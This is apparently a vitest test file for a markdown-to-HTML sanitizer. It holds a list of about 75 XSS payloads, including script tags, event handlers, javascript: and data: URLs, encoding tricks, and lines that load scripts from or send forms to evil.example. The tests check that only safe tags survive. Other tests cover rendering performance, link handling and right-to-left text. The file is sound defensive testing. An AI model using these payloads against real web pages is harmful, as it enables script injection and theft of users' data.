import { expect, test } from 'vitest'
import { markdown, markdownIn, plainText } from '../../src/lib/markdown.ts'

/* oxlint-disable no-script-url -- these are the attacks */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)">',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>*{background:url(//evil.example)}</style>',
  '<form action="//evil.example"><input name=x></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<body onload=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x onclick=alert(1)>',
  '</p><script>alert(1)</script><p>',
  '</div></main><script>alert(1)</script>',
  '<br onclick=alert(1)>',
  '<br/onmouseover=alert(1)>',
  '<p onclick=alert(1)>x</p>',
  '<p><script>alert(1)</script></p>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](javascript%3Aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://evil.example/1)',
  '[x](//evil.example/x)',
  '[x](\\\\evil.example\\x)',
  '[x](https://good.example "onmouseover=alert(1)")',
  '[x](https://good.example "\\"><img src=x onerror=alert(1)>")',
  '[x](https://good.example/"onmouseover="alert(1))',
  "[x](https://good.example/'onmouseover='alert(1))",
  '[x]: javascript:alert(1)\n\n[x]',
  '[x]: <javascript:alert(1)>\n\n[x][x]',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](https://evil.example/track.gif)',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](x)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '`<img src=x onerror=alert(1)>`',
  '```\n</code></pre><script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '> <script>alert(1)</script>',
  '- <svg/onload=alert(1)>',
  '*<script>*alert(1)</script>',
  'https://evil.example/"><script>alert(1)</script>',
  'javascript:alert(1)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\u202e<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '<ſcript>alert(1)</ſcript>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed" class="button" id="main">x</a>',
]

const allowed =
  /^<\/?(?:p|br|strong|em|s|a|ul|ol|li|code|pre|blockquote|hr|h[3-6]|table|thead|tbody|tr|th|td)(?: (?:href="(?:https?:\/\/|mailto:)[^"<>]*"|rel="nofollow noopener"|start="\d+"))*(?: \/)?>$/

test.each(attacks)('%j brings nothing into the page but the tags of text', (attack) => {
  for (const tag of markdown(attack).match(/<[^>]*>/g) ?? []) expect(tag).toMatch(allowed)
})

test('there are at least sixty attacks', () => {
  expect(attacks.length).toBeGreaterThanOrEqual(60)
})

const heavy = [
  '[',
  '*',
  '`',
  '> ',
  'a**b',
  '![](',
  '<',
  '[a](<',
  '- ',
  '|a',
  '&',
  'https://',
  '_a_',
  '[x](',
  '<br>',
  '<p>',
  '&#',
  '"\'',
]

// What grows with the square would not come back within the time that a test has.
test.each(heavy)('a page of %j is rendered, and what is beyond the longest text is not', (piece) => {
  const text = piece.repeat(Math.ceil(1_000_000 / piece.length))
  expect(markdown(text)).toBe(markdown(text.slice(0, 25_000)))
})

test('a page of addresses is text: so many links are no help, and finding them takes its time', () => {
  const address = 'https://a.example/ '
  expect(markdown(address.repeat(100))).toContain('<a href="https://a.example/"')
  expect(markdown(address.repeat(300))).not.toContain('<a ')
})

test('text, emphasis, lists, links and code are what operators write', () => {
  expect(markdown('**Try again.** See <https://a.example/x_y>.\n\n- one\n- two')).toBe(
    '<p><strong>Try again.</strong> See <a href="https://a.example/x_y" rel="nofollow noopener">https://a.example/x_y</a>.</p>\n<ul>\n<li>one</li>\n<li>two</li>\n</ul>',
  )
})

test('a line break is a line break, also one that a recorded page wrote as a tag', () => {
  expect(markdown('one<br />two\nthree')).toBe('<p>one<br />two<br />three</p>'.replaceAll('<br />', '<br />\n'))
  expect(markdown('<p>one</p><p>two</p>')).toBe('<p>one</p>\n<p>two</p>')
})

test('a link is a link, also one that a recorded page wrote as a tag; of any other tag nothing is read', () => {
  const link = '<a href="https://docs.example/a?b=1&amp;c=2" rel="nofollow noopener">the *documents*</a>'
  expect(
    markdown('See <a class="x" href="https://docs.example/a?b=1&amp;c=2" target="_blank">the *documents*</a>.'),
  ).toBe(`<p>See ${link.replace('*documents*', '<em>documents</em>')}.</p>`)
  expect(plainText('See <a href="https://docs.example/">the documents</a>.')).toBe('See the documents.')
  for (const other of [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="https://a.example/" onclick="x"><b>x</b></a>',
    '<a href="https://a.example/)[y](https://b.example">x</a>',
    '<a href="https://a.example/">x](https://b.example)[y</a>',
    '<a data-href="https://a.example/">x</a>',
  ])
    expect(markdown(other)).not.toMatch(/>(?:x|y)<\/a>|href="https:\/\/b\.example"[^>]*>\]/)
})

test('only what names its scheme becomes a link by itself', () => {
  expect(markdown('See status.md and 10.0.0.1.')).not.toContain('<a')
})

test('headings of a text stand below those of the page', () => {
  expect(markdown('# Big\n\n## Less')).toBe('<h3>Big</h3>\n<h4>Less</h4>')
})

test('a picture is its description', () => {
  expect(markdown('![The graph](https://evil.example/a.png)')).toBe('<p>The graph</p>')
})

test('plain text has neither marks nor tags', () => {
  expect(plainText('**Try** [again](https://a.example) & `x < y`\n\n- now')).toBe('Try again & x < y now')
})

test('a text is the same in plain text and in HTML however often it is asked for', () => {
  for (const time of ['first', 'again']) {
    expect([time, plainText('**Bold**'), plainText('Bold'), plainText('')]).toEqual([time, 'Bold', 'Bold', ''])
    expect([time, markdown('**Bold**')]).toEqual([time, '<p><strong>Bold</strong></p>'])
  }
})

test.each([
  ['rtl', 'بازگشت کند است.\n\nAll refunds are slow.', '<p>بازگشت کند است.</p>\n<p dir="ltr">All refunds are slow.</p>'],
  ['rtl', 'API از کار افتاده است.', '<p>API از کار افتاده است.</p>'],
  ['rtl', '- API\n- پرداخت', '<ul>\n<li dir="ltr">API</li>\n<li>پرداخت</li>\n</ul>'],
  ['rtl', 'All refunds are *slow*.', '<p dir="ltr">All refunds are <em>slow</em>.</p>'],
  ['ltr', 'All refunds are slow.', '<p>All refunds are slow.</p>'],
  [
    'ltr',
    'The bank **پارسیان** is slow.\n\nبازگشت کند است.',
    '<p>The bank <strong>پارسیان</strong> is slow.</p>\n<p dir="rtl">بازگشت کند است.</p>',
  ],
  ['rtl', '۱۲:۳۰', '<p>۱۲:۳۰</p>'],
] as const)('in a text that runs %s, a block wholly in the other direction says so: %s', (direction, text, html) => {
  expect(markdownIn(text, direction)).toBe(html)
})
